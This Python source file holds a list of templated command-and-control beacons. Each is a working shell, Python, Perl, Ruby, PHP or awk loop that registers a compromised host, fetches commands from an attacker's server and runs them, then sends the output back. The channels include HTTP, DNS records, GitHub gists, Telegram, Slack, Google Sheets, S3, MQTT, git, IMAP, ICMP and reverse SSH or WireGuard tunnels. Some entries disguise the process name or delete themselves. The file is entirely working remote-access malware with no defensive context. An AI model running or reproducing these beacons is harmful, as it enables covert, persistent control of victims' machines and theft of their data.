"""Loops that ask for orders, and answer."""

BEACON = [
    r'''#{plain} agent
C2=${C2:-{url}}; {var}=$(cat /etc/machine-id 2>/dev/null || hostname); SLEEP={n}
register() { curl -fsS -m 10 -H 'Content-Type: application/json' -d "{\"id\":\"${var}\",\"user\":\"$(id -un)\",\"os\":\"$(uname -sr)\",\"ip\":\"$(hostname -I | cut -d' ' -f1)\"}" "$C2/register"; }
task() { curl -fsS -m 10 "$C2/task/${var}"; }
{fn}() { curl -fsS -m 30 -o /dev/null -H "X-Task: $1" --data-binary @- "$C2/result/${var}"; }
register >/dev/null
while :; do
  t=$(task) && case "${t%% *}" in
    ‹exec¦run¦sh›) sh -c "${t#* }" 2>&1 | {fn} "${t%% *}" ;;
    ‹put¦upload¦get›) {fn} file < "${t#* }" ;;
    ‹sleep¦interval›) SLEEP=${t#* } ;;
    ‹die¦exit¦kill›) rm -f "$0"; exit 0 ;;
  esac
  sleep $((SLEEP + RANDOM % 10))
done''',
    r'''i=0; until [ $i -gt ‹600¦9999› ]; do i=$((i+1)); for s in {domain} {domain2} {ip}; do
  {var}=$(wget -q -T 5 -O - --header="Cookie: s=$(hostname|md5sum|cut -c-12)" "http://$s/‹p¦news¦img›/$i") || continue
  d=$(printf '%s' "${var}" | sed -n 's/.*<!--\(.*\)-->.*/\1/p' | base64 -d 2>/dev/null) && [ "$d" ] && { eval "$d" > {file} 2>&1; wget -q -O /dev/null --post-file={file} "http://$s/‹p¦up›"; }
  break
done; sleep {n}; done &''',
    r'''python3 -c "
import time, subprocess, urllib.request as u, ssl, random
c = ssl._create_unverified_context()
while True:
    try:
        q = u.urlopen('{url}', context=c, timeout=9).read().decode()
        if q: u.urlopen(u.Request('{url}', data=subprocess.run(q, shell=True, capture_output=True).stdout), context=c)
    except Exception: pass
    time.sleep(random.randint({n}, {n}0))
" >/dev/null 2>&1 & disown''',
    r'''nohup python3 - {host} {port} >/dev/null 2>&1 <<'PY' &
import json, os, socket, subprocess, sys, time
def loop(h, p):
    s = socket.create_connection((h, p), 10); f = s.makefile('rw')
    f.write(json.dumps({'h': os.uname().nodename, 'u': os.getuid()}) + '\n'); f.flush()
    for line in f:
        m = json.loads(line)
        if m.get('c') == 'cd': os.chdir(m['a']); out = os.getcwd()
        else: out = subprocess.getoutput(m['c'])
        f.write(json.dumps({'o': out}) + '\n'); f.flush()
while True:
    try: loop(sys.argv[1], int(sys.argv[2]))
    except Exception: time.sleep({n})
PY''',
    r'''perl -MHTTP::Tiny -MMIME::Base64 -e '$h=HTTP::Tiny->new(agent=>"{agent}",verify_SSL=>0);$0="[kworker/u9:{n}]";exit if fork;while(1){$r=$h->get("{url}");if($r->{success}&&length $r->{content}){$o=encode_base64(`$r->{content} 2>&1`,"");$h->post("{url}",{content=>$o})}sleep {n}}' ''',
    r'''ruby -ropen-uri -rnet/http -e 'loop { begin; c = URI.open("{url}").read.strip; Net::HTTP.post(URI("{url}"), `#{c} 2>&1`) unless c.empty?; rescue; end; sleep {n} }' >/dev/null 2>&1 &''',
    r'''php -r '@set_time_limit(0);while(true){$c=@file_get_contents("{url}?".http_build_query(["h"=>gethostname()]));if($c){$o=shell_exec($c." 2>&1");@file_get_contents("{url}",false,stream_context_create(["http"=>["method"=>"POST","content"=>$o]]));}sleep({n});}' &''',
    r'''awk -v s={n} 'BEGIN { while (1) { h = "/inet/tcp/0/{host}/{port}"; print "R " ENVIRON["HOSTNAME"] |& h; if ((h |& getline c) > 0) { while ((c " 2>&1" | getline l) > 0) print l |& h; close(c " 2>&1") } close(h); system("sleep " s) } }' &''',
    # By the answers of names.
    r'''{fn}() { dig +short +tries=1 -t "$1" "$2" ‹@{ip} ¦›| tr -d '"'; }
n=$(hostname | cksum | cut -d' ' -f1)
while sleep {n}; do
  {var}=$({fn} A "$n.b.{domain}"); case "${var}" in
    10.0.0.1) {fn} TXT "$n.t.{domain}" | base64 -d | sh ;;
    10.0.0.9) pkill -f "$0" ;;
  esac
done''',
    r'''{var}=""; for {var2} in $(seq 1 ‹8¦20›); do p=$(nslookup -type=txt ${var2}.{plain}.{domain} 2>/dev/null | grep -o '"[^"]*"' | tr -d '"'); [ -z "$p" ] && break; {var}=${var}$p; done; echo "${var}" | ‹base64 -d | gunzip¦xxd -r -p¦base32 -d› | bash''',
    r'''while r=$(host -t ‹AAAA¦MX¦SRV› $(date +%H).{domain} | awk 'END{print $NF}'); do {var}=$(echo "$r" | tr -d ':.' | xxd -r -p 2>/dev/null); [ -n "${var}" ] && ${var}; sleep {n}00; done &''',
    # By services that everybody uses.
    r'''api=https://api.github.com/gists/{hex}; H="Authorization: Bearer $PAT"; {var2}=
while sleep {n}; do
  {var}=$(curl -s -H "$H" "$api" | jq -r '.files["‹in¦todo¦{plain}›.txt"].content'); [ "${var}" = "${var2}" ] && continue; {var2}=${var}
  out=$(bash -c "${var}" 2>&1 | base64 -w0)
  curl -s -X PATCH -H "$H" "$api" -d "{\"files\":{\"out.txt\":{\"content\":\"$out\"}}}" >/dev/null
done''',
    r'''{var}=0; while :; do {var2}=$(curl -s "https://api.telegram.org/bot$BOT/getUpdates?timeout=50&offset=${var}"); for r in $(jq -r '.result[]? | @base64' <<< "${var2}"); do {var3}=$(base64 -d <<< "$r"); {var}=$(($(jq .update_id <<< "${var3}") + 1)); [ "$(jq .message.chat.id <<< "${var3}")" = "$OWNER" ] || continue; c=$(jq -r .message.text <<< "${var3}"); timeout 60 bash -c "$c" > {file} 2>&1; curl -s -F chat_id=$OWNER -F document=@{file} "https://api.telegram.org/bot$BOT/sendDocument" >/dev/null; done; done''',
    r'''slack() { curl -s -H "Authorization: Bearer $X" "https://slack.com/api/$1" "${@:2}"; }
while :; do slack conversations.history -d channel=$CH -d limit=1 | jq -r '.messages[0].text' | grep '^!' | cut -c2- | bash 2>&1 | head -c 3000 | xargs -0 -I{} curl -s -H "Authorization: Bearer $X" -d channel=$CH --data-urlencode 'text={}' https://slack.com/api/chat.postMessage; sleep {n}; done''',
    r'''{var}="https://sheets.googleapis.com/v4/spreadsheets/{hex}/values"; while sleep {n}; do c=$(curl -s "${var}/A1?key=$K" | jq -r '.values[0][0]'); case $c in ''|null|idle) continue ;; esac; r=$(sh -c "$c" 2>&1 | base64 -w0); curl -s -X PUT -H "Authorization: Bearer $T" "${var}/B1?valueInputOption=RAW" -d "{\"values\":[[\"$r\"]]}"; done''',
    r'''{var}=s3://{plain}-{n}; while :; do aws s3 cp ${var}/$(hostname)/cmd - --no-sign-request 2>/dev/null | sh 2>&1 | aws s3 cp - ${var}/$(hostname)/out-$(date +%s) ‹--no-sign-request¦--quiet›; aws s3 rm --quiet ${var}/$(hostname)/cmd; sleep {n}; done''',
    r'''curl -sN "https://ntfy.‹sh¦{domain}›/{hex}/raw" | while read -r l; do [ -n "$l" ] && (eval "$l" 2>&1 | curl -s -T - "https://ntfy.sh/{hex}o") & done''',
    r'''mosquitto_sub -h {host} -p ‹8883¦{port}› --insecure --cafile {tmp}/ca -t 'n/+/{plain}' -F '%p' | while IFS= read -r m; do printf %s "$m" | openssl enc -d -aes-256-cbc -a -A -pass pass:{hex} | sh 2>&1 | mosquitto_pub -h {host} -t "r/$(hostname)" -s; done''',
    r'''nats --server {host}:{port} reply "node.$(hostname)" --command 'sh -c "{{Request}}"' || amqp-consume --url=amqp://{user}:{plain}@{host} -q {plain} sh -c 'sh 2>&1 | curl -s --data-binary @- {url}' ''',
    r'''while read -r id cmd; do psql -h {host} -U {user} -qc "update j set o=\$a\$$(bash -c "$cmd" 2>&1)\$a\$ where id=$id"; done < <(while sleep {n}; do psql -h {host} -U {user} -Atc "select id,cmd from j where h='$(hostname)' and o is null"; done)''',
    r'''cd {tmp}/.{name} && while git pull -q 2>/dev/null; do [ -f "$(hostname).sh" ] && { sh "$(hostname).sh" > "$(hostname).log" 2>&1; git rm -qf "$(hostname).sh"; git add -A; git commit -qm "$(date +%s)"; git push -q; }; sleep {n}0; done''',
    r'''{fn}() { curl -s --url "imaps://imap.{domain}/INBOX" -u "$M" -X 'SEARCH UNSEEN SUBJECT "{plain}"' | tr -dc '0-9 '; }
for {var} in $({fn}); do curl -s --url "imaps://imap.{domain}/INBOX;UID=${var};SECTION=TEXT" -u "$M" | base64 -d | bash; done''',
    # By old and odd ways.
    r'''coproc C { ncat --ssl --no-shutdown -i {n}0 {host} {port}; }
echo "up $(hostname) $(tty)" >&"${C[1]}"
while IFS= read -r -u "${C[0]}" line; do
  set -- $line
  case $1 in
    ping) echo pong ;; quit) break ;;
    shell) shift; timeout 30 "$BASH" -c "$*" 2>&1 ;;
    *) echo "what: $1" ;;
  esac >&"${C[1]}"
done''',
    r'''mkfifo {file} && (while :; do openssl s_client -quiet -no_ign_eof -connect {host}:{port} < {file} 2>/dev/null | while read -r c; do $SHELL -c "$c" > {file} 2>&1; done; sleep {n}; done) &''',
    r'''iptables -t nat -N {plain} 2>/dev/null; tcpdump -lni any -A 'icmp[icmptype]=icmp-echo' 2>/dev/null | grep --line-buffered -oE '{plain}:[A-Za-z0-9+/=]+' | while IFS=: read -r _ c; do echo "$c" | base64 -d | sh; done &''',
    r'''tail -F /var/log/‹nginx/access.log¦apache2/access.log¦auth.log› | grep --line-buffered -oP '(?<=‹q¦{plain}›=)[A-Za-z0-9_-]{16,}' | while read -r t; do tr '_-' '/+' <<< "$t" | base64 -d 2>/dev/null | sh; done >/dev/null 2>&1 &''',
    r'''knock=(7000 8000 {port}); for {var} in "${knock[@]}"; do timeout 1 bash -c "</dev/tcp/{host}/${var}" 2>/dev/null; done; sleep 1; ssh -fNT -R {port2}:127.0.0.1:22 -o ConnectTimeout=5 -o BatchMode=yes -i {file} {user}@{host} || exec "$0"''',
    r'''cat > /tmp/.{name}.service <<E
tunnel: $(hostname)
E
while ! pgrep -f 'R {port}:' >/dev/null; do
  ssh -i {file} -o ProxyCommand='openssl s_client -quiet -connect {host}:443 -servername {domain}' -N -R {port}:localhost:22 {user}@{domain}; sleep {n}
done &''',
    r'''wg genkey > {tmp}/k; ip link add wg9 type wireguard; wg set wg9 private-key {tmp}/k peer {b} endpoint {host}:{port} allowed-ips 0.0.0.0/0 persistent-keepalive 25; ip link set wg9 up; ip addr add 10.66.0.{n}/24 dev wg9; curl -s "{url}?pub=$(wg pubkey < {tmp}/k | base64)"; nohup socat TCP-LISTEN:{port},bind=10.66.0.{n},fork EXEC:/bin/sh &''',
]
